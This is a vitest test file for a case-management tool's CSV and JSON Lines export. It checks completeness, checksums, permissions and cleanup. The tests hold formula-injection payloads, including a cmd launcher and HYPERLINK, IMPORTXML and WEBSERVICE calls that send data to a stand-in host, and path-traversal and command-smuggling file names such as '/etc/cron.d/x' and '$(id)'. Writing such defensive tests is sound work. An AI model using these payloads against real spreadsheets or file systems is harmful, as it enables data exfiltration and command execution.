// Exports: every row, harmless cells, a manifest that other tools can check, and nothing left behind by a failure.
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setImmediate as nextTurn } from 'node:timers/promises';
import { afterAll, afterEach, beforeEach, expect, test } from 'vitest';
import { ExportAsked, ExportShown, ViewAsked } from '../../shared/contract.ts';
import type { ViewGiven } from '../../shared/contract.ts';
import type { Case } from '../../shared/model/case.ts';
import type { Clock } from '../../shared/model/clock.ts';
import { metaGet } from '../../electron/desk/cache/cache.ts';
import type { Cache } from '../../electron/desk/cache/cache.ts';
import { applyPage, askOf } from '../../electron/desk/cache/page.ts';
import { makeFolder } from '../../electron/desk/export/files.ts';
import { guardCell } from '../../electron/desk/export/guard.ts';
import { cancelExport, exportDone, listExports, newExports, startExport, stopExports } from '../../electron/desk/export/job.ts';
import type { ExportDeps, Exports } from '../../electron/desk/export/job.ts';
import { openView, rowsOf } from '../../electron/desk/reading/views.ts';
import { NOW, makeAccount, makeCase, makePerson, pageOf, seeded, tempCache } from '../cache/made.ts';
import type { Bench } from '../cache/made.ts';

let bench: Bench;
let cache: Cache;
let parent: string;
let exports: Exports;
beforeEach(async () => {
  bench = await tempCache();
  cache = bench.cache;
  parent = join(bench.dir, 'exports');
  exports = newExports();
});
afterEach(async () => {
  await stopExports(exports);
  bench.close();
});

const fill = (cases: Parameters<typeof pageOf>[0][number]['puts'], at = 'c'): void => {
  applyPage(cache, askOf(cache), pageOf([{ stream: 'content-removal', cursor: at, puts: cases ?? [] }, { stream: 'directory', cursor: `d${at}`, puts: [makePerson('mara', 'Mara Lindqvist')] }]));
};
let jobs = 0;
const deps = (more: Partial<ExportDeps> = {}): ExportDeps => ({
  cache, parent, who: { id: 'ines', name: 'Inês Carvalho' }, hub: { id: 'hub-1', name: 'Demo hub' }, tool: { name: 'docket', version: '0.1.0' },
  now: () => NOW, newId: () => `job-${++jobs}`, onProgress: () => undefined, ...more,
});
const asked = (format: 'csv' | 'jsonl', view: Partial<ViewGiven> = {}): ExportAsked =>
  ExportAsked.parse({ what: 'case-log', format, view: { queue: 'content-removal', sort: { by: 'number', down: false }, ...view }, reason: 'Regulator asked for May' });
const run = (format: 'csv' | 'jsonl', view: Partial<ViewGiven> = {}, more: Partial<ExportDeps> = {}): Promise<ExportShown> =>
  exportDone(exports, startExport(exports, deps(more), asked(format, view)).job);

/** RFC 4180, written without a look at the exporter. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let at = 0;
  let quoted = false;
  while (at < text.length) {
    const sign = text[at] ?? '';
    if (quoted) {
      if (sign !== '"') cell += sign;
      else if (text[at + 1] === '"') cell += text[at++];
      else quoted = false;
    } else if (sign === '"' && cell === '') quoted = true;
    else if (sign === ',' || (sign === '\r' && text[at + 1] === '\n')) {
      row.push(cell);
      cell = '';
      if (sign === '\r') {
        rows.push(row);
        row = [];
        at++;
      }
    }
    else cell += sign;
    at++;
  }
  expect([row, cell]).toEqual([[], '']);
  return rows;
}
const table = (shown: ExportShown): Record<string, string>[] => {
  const text = readFileSync(join(shown.folder, 'case-log.csv'), 'utf8');
  expect(text.startsWith('\ufeff')).toBe(true);
  const [head = [], ...rows] = readCsv(text.slice(1));
  return rows.map((row) => {
    expect(row).toHaveLength(head.length);
    return Object.fromEntries(head.map((name, at) => [name, row[at] ?? '']));
  });
};

const SIGNS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const CELLS = [
  `=cmd|'/c calc'!A1`, '=HYPERLINK("http://c.test/?"&A1,"click")', '+1+1', '-2+3', '@SUM(1)', '\t=1+1', '\r=1+1', '\n=1', '"=1+1"', ';=1+1', '＝1+1', '%0A=1', `'=1`, '=IMPORTXML("http://c.test","//a")', '=WEBSERVICE("http://c.test")',
  '00123', '1E10', '2026-02-30', 'TRUE', 'x'.repeat(290), 'a "quoted" word', 'line\nline', '\ufeff=1', '\ufeffBOM', '', ' ',
  ...SIGNS.map((sign) => `${sign}1`), ...SIGNS.map((sign) => ` ${sign}1`), ...SIGNS.map((sign) => `a,${sign}1`), ...SIGNS.map((sign) => `a;${sign}1`), ...SIGNS.map((sign) => `a\n${sign}1`), ...SIGNS.map((sign) => `""${sign}1`),
  '\u00a0=1', '\u200b=1', '\u202e=1', 'a\t=1', 'a; =1', 'a;\u200b=1', 'a;\u00a0"=1', 'a\0;=1', '\0=1', 'a;"=1"', `a;'=1`, 'жалоба', '删除', '😀', '-', '=',
];

test('[S80] no cell begins with what a spreadsheet takes for a formula, whether it splits at commas or semicolons', async () => {
  const random = seeded(1);
  fill(CELLS.map((cell, n) => makeCase(random, 'content-removal', n + 1, { title: cell, subject: { id: 'acc-1', handle: cell, displayName: 'x', status: 'active' } })));
  const shown = await run('csv');
  expect(ExportShown.parse(shown)).toMatchObject({ state: 'done', rows: CELLS.length, total: CELLS.length });
  const rows = table(shown);
  const trigger = /^[\s"'\u00a0\u200b-\u200f\u202a-\u202e\ufeff]*[=+\-@\t\r\n＝＋－＠]|^[\t\r\n]/u;
  const harmless = (cell: string): boolean => cell.startsWith("'") || !trigger.test(cell);
  for (const row of rows) for (const cell of Object.values(row)) expect(harmless(cell), JSON.stringify(cell)).toBe(true);
  // A program of a land that splits at semicolons, and Python's reader, which is nobody's friend.
  const file = join(shown.folder, 'case-log.csv');
  for (const separator of [',', ';']) {
    const cells: unknown = JSON.parse(execFileSync('python3', ['-c', 'import csv,json,sys\nprint(json.dumps([c for r in csv.reader(open(sys.argv[1],encoding="utf-8-sig",newline=""),delimiter=sys.argv[2]) for c in r]))', file, separator], { encoding: 'utf8', maxBuffer: 1 << 26 }));
    for (const cell of cells as string[]) expect(harmless(cell), `${separator} ${JSON.stringify(cell)}`).toBe(true);
  }
  // What needs no guard is untouched, and a guard adds and never takes.
  for (const [at, cell] of CELLS.entries()) {
    expect(rows[at]?.['title']).toBe(guardCell(cell));
    expect((rows[at]?.['title'] ?? '').replaceAll("'", '')).toBe(cell.replaceAll("'", '').replaceAll('\0', '\ufffd'));
  }
  expect(['00123', '1E10', 'TRUE', 'жалоба', 'a "quoted" word', 'line\nline', '2026-02-30', 'well-known', 'a - b'].map(guardCell)).toEqual(['00123', '1E10', 'TRUE', 'жалоба', 'a "quoted" word', 'line\nline', '2026-02-30', 'well-known', 'a - b']);
});

test('[S79][S80] JSON Lines are the raw truth: each line is the record, to the sign', async () => {
  const random = seeded(2);
  const puts = CELLS.map((cell, n) => makeCase(random, 'content-removal', n + 1, { title: cell, summary: '\u2028 \u0000 \ud83d\ude00 "\\' }));
  fill(puts);
  const shown = await run('jsonl');
  const lines = readFileSync(join(shown.folder, 'case-log.jsonl'), 'utf8').split('\n');
  expect(lines.pop()).toBe('');
  expect(lines.map((line) => JSON.parse(line) as Case)).toEqual(puts.map((put) => put.case));
});

test('[S79] every row of the view’s filter and no other, in its order, across slices', async () => {
  const random = seeded(3);
  fill(Array.from({ length: 1_713 }, (_, n) => makeCase(random, 'content-removal', n + 1)));
  for (const view of [{}, { status: ['open'], search: 'falcon ' }, { jurisdiction: ['DE'], sort: { by: 'due', down: true } as const }, { search: 'nosuchword' }]) {
    const shown = await run('csv', view);
    const open = openView(cache, ViewAsked.parse({ queue: 'content-removal', sort: { by: 'number', down: false }, ...view }), { personId: 'ines', now: NOW });
    const ids: string[] = [];
    for (let from = 0; from < open.total; from += 500) ids.push(...rowsOf(cache, { view: open.view, from, count: 500 }).rows.map((row) => row.id));
    expect(shown).toMatchObject({ state: 'done', rows: ids.length, total: ids.length });
    expect(table(shown).map((row) => row['id'])).toEqual(ids);
  }
});

test('[S79] instants and facts stand as they were stored', async () => {
  const random = seeded(4);
  const clock: Clock = {
    id: 'k', rule: 'r', name: 'Answer', citation: 'DSA Art. 16(6)', confidence: 'high', basis: 'law', kind: 'act_by', state: 'running', trigger: NOW, timeZone: 'Asia/Tokyo', calendar: 'JP',
    due: '2026-07-01T14:59:59.5Z', dueLocal: '2026-07-01T23:59:59.5+09:00', dueDate: '2026-07-01', latest: null, pauses: [], history: [],
  };
  const decision = { actId: '0197a3a0-0000-7000-8000-000000000000', by: 'mara', approvedBy: 'gone-1', at: '2026-06-01T00:00:00Z', decision: 'disable-items', note: '', reason: 'Said "no", then\nyes', itemIds: [], holdId: null, package: null, choices: {}, hash: null, from: null };
  fill([makeCase(random, 'content-removal', 1, { clocks: [clock], decision, status: 'decided', received: '2026-05-01T10:00:00Z', jurisdiction: 'JP', language: 'ja' }, { priority: 'urgent', assignee: 'mara' })]);
  const [row] = table(await run('csv'));
  expect(row).toMatchObject({
    number: 'CR-2026-000001', kind: 'content-removal', status: 'decided', priority: 'urgent', jurisdiction: 'JP', language: 'ja', received: '2026-05-01T10:00:00Z', due: '2026-07-01T14:59:59.5Z', due_rule: 'Answer', due_citation: 'DSA Art. 16(6)',
    assignee: 'Mara Lindqvist', items: '1', decision: 'disable-items', decided_by: 'Mara Lindqvist', approved_by: 'gone-1', decided_at: '2026-06-01T00:00:00Z', decision_reason: 'Said "no", then\nyes', version: '1',
  });
});

test('[S78][S79] the manifest says who, why, what and how much, and sha256sum agrees with it', async () => {
  const random = seeded(5);
  fill(Array.from({ length: 300 }, (_, n) => makeCase(random, 'content-removal', n + 1)));
  const shown = await run('csv', { status: ['open', 'closed'] });
  expect(execFileSync('sha256sum', ['-c', '--strict', 'SHA256SUMS'], { cwd: shown.folder, encoding: 'utf8' })).toBe('case-log.csv: OK\nmanifest.json: OK\n');
  const manifest = JSON.parse(readFileSync(join(shown.folder, 'manifest.json'), 'utf8')) as Record<string, unknown>;
  expect(manifest).toMatchObject({
    manifest: 1, what: 'case-log', tool: { name: 'docket', version: '0.1.0' }, hub: { id: 'hub-1', name: 'Demo hub' }, by: { id: 'ines', name: 'Inês Carvalho' }, reason: 'Regulator asked for May', filter: { queue: 'content-removal', status: ['open', 'closed'] },
    cursors: { 'content-removal': 'c' }, started: NOW, finished: NOW, rows: { expected: shown.rows, written: shown.rows }, files: [{ name: 'case-log.csv', bytes: statSync(join(shown.folder, 'case-log.csv')).size }],
  });
  for (const file of shown.files) expect(execFileSync('sha256sum', [file.name], { cwd: shown.folder, encoding: 'utf8' })).toContain(file.sha256);
  expect(readdirSync(shown.folder).sort()).toEqual(['SHA256SUMS', 'case-log.csv', 'manifest.json']);
  expect([shown.folder, ...readdirSync(shown.folder).map((name) => join(shown.folder, name))].map((path) => statSync(path).mode & 0o777)).toEqual([0o700, 0o600, 0o600, 0o600]);
  // One changed byte is seen.
  execFileSync('sh', ['-c', 'printf x >> case-log.csv'], { cwd: shown.folder });
  expect(spawnSync('sha256sum', ['-c', 'SHA256SUMS'], { cwd: shown.folder }).status).not.toBe(0);
});

test('[S79] the same rows give the same bytes', async () => {
  const random = seeded(6);
  fill(Array.from({ length: 600 }, (_, n) => makeCase(random, 'content-removal', n + 1)));
  const hashes = [(await run('csv')).files[0]?.sha256, (await run('csv')).files[0]?.sha256];
  expect(hashes[0]).toBe(hashes[1]);
});

test('[S79] a sync in the middle does not tear an export: it is the state it began with', async () => {
  const random = seeded(7);
  fill(Array.from({ length: 2_000 }, (_, n) => makeCase(random, 'content-removal', n + 1)));
  const before = listTitles();
  let pulled = 0;
  const shown = await run('csv', {}, {
    onProgress: ({ state, rows }) => {
      // In the very middle all that is left is renamed, some goes and some comes.
      if (state !== 'running' || rows < 500 || pulled++ > 0) return;
      fill(Array.from({ length: 1_000 }, (_, n) => makeCase(random, 'content-removal', n + 1_001, { title: 'TORN' })), 'c2');
      applyPage(cache, askOf(cache), pageOf([{ stream: 'content-removal', cursor: 'c3', leaves: Array.from({ length: 100 }, (_, n) => ({ id: `content-removal-${n + 1_500}`, why: 'deleted' as const })) }]));
    },
  });
  expect(pulled).toBeGreaterThan(0);
  expect(table(shown).map((row) => row['title'])).toEqual(before);
  expect(listTitles()).not.toEqual(before);
  expect(JSON.parse(readFileSync(join(shown.folder, 'manifest.json'), 'utf8'))).toMatchObject({ cursors: { 'content-removal': 'c' } });
});
function listTitles(): string[] {
  const view = openView(cache, ViewAsked.parse({ queue: 'content-removal', sort: { by: 'number', down: false } }), { personId: 'ines', now: NOW });
  const titles: string[] = [];
  for (let from = 0; from < view.total; from += 500) titles.push(...rowsOf(cache, { view: view.view, from, count: 500 }).rows.map((row) => row.title));
  return titles;
}

test('[export] the desk answers between slices, and a cancel removes every file', async () => {
  const random = seeded(8);
  fill(Array.from({ length: 3_000 }, (_, n) => makeCase(random, 'content-removal', n + 1)));
  const { job } = startExport(exports, deps(), asked('csv'));
  let answered = 0;
  while ((listExports(exports)[0]?.rows ?? 0) < 500) {
    expect(metaGet(cache, 'granted')).not.toBeNull();
    answered++;
    await nextTurn();
  }
  expect(answered).toBeGreaterThan(2);
  const [running] = listExports(exports);
  expect(readdirSync(running?.folder ?? '')).toEqual(['case-log.csv.unfinished']);
  const stopped = await cancelExport(exports, job);
  expect(stopped).toMatchObject({ state: 'cancelled', files: [] });
  expect(stopped.rows).toBeLessThan(stopped.total);
  expect(readdirSync(parent)).toEqual([]);
  expect(() => exportDone(exports, 'no-such-job')).toThrow('not on this computer');
});

const smallDisk = mkdtempSync(join(tmpdir(), 'docket-full-'));
const mounted = spawnSync('mount', ['-t', 'tmpfs', '-o', 'size=64k', 'none', smallDisk]).status === 0;
afterAll(() => {
  if (mounted) spawnSync('umount', [smallDisk]);
  rmSync(smallDisk, { recursive: true, force: true });
});

test.skipIf(!mounted)('[export] a full disk is said in its sentence and nothing is left', async () => {
  const random = seeded(9);
  fill(Array.from({ length: 1_000 }, (_, n) => makeCase(random, 'content-removal', n + 1)));
  expect(await run('csv', {}, { parent: smallDisk })).toMatchObject({ state: 'failed', files: [], message: 'The disk is full. Nothing was saved by this step. Free some space and try again.' });
  expect(readdirSync(smallDisk)).toEqual([]);
});

test('[export] a place that cannot hold a folder fails in words, without the path', async () => {
  fill([makeCase(seeded(9), 'content-removal', 1)]);
  expect(await run('csv', {}, { parent: '/dev/null' })).toMatchObject({ state: 'failed', files: [], folder: '', message: 'The export stopped. The unfinished files were removed. Try again.' });
});

test('[export] a folder that was made for an export that fails goes with it; one that was there, or is used by now, stays', async () => {
  await (await makeFolder(join(parent, 'one', 'two'), null)).discard();
  expect(existsSync(parent)).toBe(false);
  mkdirSync(parent, { mode: 0o700 });
  await (await makeFolder(parent, null)).discard();
  const folder = await makeFolder(join(parent, 'one', 'two'), null);
  mkdirSync(join(parent, 'one', 'mine'));
  await folder.discard();
  expect([readdirSync(parent), readdirSync(join(parent, 'one'))]).toEqual([['one'], ['mine']]);
});

test('[export] a place that is a file, or where no folder can be made, ends the export in a sentence', async () => {
  fill([makeCase(seeded(9), 'content-removal', 1)]);
  expect(await run('csv', {}, { parent: '/dev/null', intoParent: true })).toMatchObject({ state: 'failed', message: expect.stringContaining('there is a file where the folder should be') });
  if (process.platform === 'linux') expect(await run('csv', {}, { parent: '/proc/nope/log', intoParent: true })).toMatchObject({ state: 'failed', message: expect.stringContaining('no folder can be made there') });
});

test('[export] a row that is missing fails the whole export', async () => {
  const random = seeded(10);
  fill(Array.from({ length: 10 }, (_, n) => makeCase(random, 'content-removal', n + 1)));
  cache.db.exec("DELETE FROM bodies WHERE rid = (SELECT rid FROM records WHERE id = 'content-removal-5')");
  expect(await run('csv')).toMatchObject({ state: 'failed', files: [], message: 'The export stopped. The unfinished files were removed. Try again. (9 of 10 rows)' });
  expect(readdirSync(parent)).toEqual([]);
});

test('[export] flagged accounts and parked records are rows too', async () => {
  applyPage(cache, askOf(cache), pageOf([{ stream: 'flagged-accounts', cursor: 'f', puts: [makeAccount(seeded(1), 1), { kind: 'treaty', id: 'new-1', says: '=1' }] }]));
  const rows = table(await run('csv', { queue: 'flagged-accounts' }));
  expect(rows.map((row) => [row['id'], row['kind'], row['regime'], row['title'] === '' ])).toEqual([['acc-1', 'account', 'ban-evasion', false], ['new-1', 'treaty', '', false]]);
  const lines = readFileSync(join((await run('jsonl', { queue: 'flagged-accounts' })).folder, 'case-log.jsonl'), 'utf8').trim().split('\n');
  expect(lines.map((line) => (JSON.parse(line) as { id: string }).id)).toEqual(['acc-1', 'new-1']);
});

test('[S82] no name leads out of the export’s folder', async () => {
  const names = [
    '../../evil.sh', '..\\..\\evil', '/etc/cron.d/x', 'C:\\Windows\\x', '\\\\srv\\share\\x', 'a/../../b', '%2e%2e%2f', 'evil\u0000.txt', 'x.', 'x ', 'x:ads', '-rf', '$(id)', '`id`', 'a\nb', 'n'.repeat(300), '.htaccess', '~/.ssh/config', '', '.', '..', 'ünicode',
    'a//b', 'a\tb', '*', '?', '<x>', '|', '"', "'",
  ];
  mkdirSync(parent, { recursive: true });
  for (const name of names) await expect(makeFolder(parent, name), JSON.stringify(name)).rejects.toMatchObject({ fault: { code: 'broken' } });
  const folder = await makeFolder(parent, 'good-1');
  for (const name of names) await expect(folder.begin(name), JSON.stringify(name)).rejects.toMatchObject({ fault: { code: 'broken' } });
  await folder.begin('case-log.csv');
  await expect(folder.begin('case-log.csv')).rejects.toMatchObject({ fault: { code: 'broken' } });
  await expect(makeFolder(parent, 'good-1')).rejects.toMatchObject({ code: 'EEXIST' });
  await folder.discard();
  expect(existsSync(join(parent, 'good-1'))).toBe(false);
  // Whatever an id or a clock hold, the folder's name is made of safe signs.
  fill([makeCase(seeded(1), 'content-removal', 1)]);
  const shown = await run('csv', {}, { newId: () => '../../etc-1', now: () => NOW });
  expect(shown).toMatchObject({ state: 'done', folder: join(parent, 'case-log-content-removal-20260610T120000Z-etc1') });
});
